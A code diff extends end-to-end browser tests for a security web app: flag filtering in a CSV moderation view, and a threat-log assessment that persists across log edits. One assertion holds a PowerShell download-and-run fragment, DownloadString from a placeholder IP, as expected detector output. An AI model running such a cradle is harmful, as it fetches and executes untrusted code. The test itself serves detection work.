@@ -93,6 +93,12 @@ test('moderation runs a CSV through', async () => {
   await page.getByRole('button', { name: 'Check all rows' }).click();
   await expect(page.getByText('3 of 3 checked')).toBeVisible({ timeout: 30_000 });
   await expect(page.getByRole('row', { name: /Mail a@example.com/ })).toContainText('Flagged');
+  await page.getByRole('switch', { name: 'Only flagged' }).check();
+  await expect(page.getByText('1 of 3 shown')).toBeVisible();
+  await expect(page.getByText('Good morning, all')).toBeHidden();
+  await page.getByRole('button', { name: 'Mail a@example.com' }).click();
+  await expect(page.getByText('“a@example.com”')).toBeVisible();
+  await expectAccessible(page);
   const [download] = await Promise.all([
     page.waitForEvent('download'),
     page.getByRole('button', { name: 'Save scores as CSV' }).click(),
@@ -130,6 +136,19 @@ test('threats ranks findings and leads to their lines', async () => {
   await actions.getByRole('checkbox').first().check();
   await expect(actions).toContainText(/1 of \d+ done/);
   await expectAccessible(page);
+  // Another log is another piece of work: the assessment stays where it was.
+  const recents = page.getByRole('list', { name: 'Recents' });
+  const assessed = recents.getByRole('button', { name: /[1-9]\d* findings/ });
+  await expect(assessed.first()).toBeVisible();
+  await page.getByRole('button', { name: 'Edit the log' }).click();
+  const log = page.getByRole('textbox', { name: 'Log', exact: true });
+  await expect(log).toHaveValue(/sqlmap/);
+  await log.fill('GET /index.html HTTP/1.1');
+  await page.keyboard.press('Control+Enter');
+  await expect(page.getByRole('button', { name: 'Edit the log' })).toBeVisible({ timeout: 30_000 });
+  await expect(page.locator('main')).toBeFocused();
+  await assessed.first().click();
+  await expect(findings).toContainText("DownloadString('http://198.51.100.23/a.ps1')");
 });
 
 test('embeddings compares and searches', async () => {
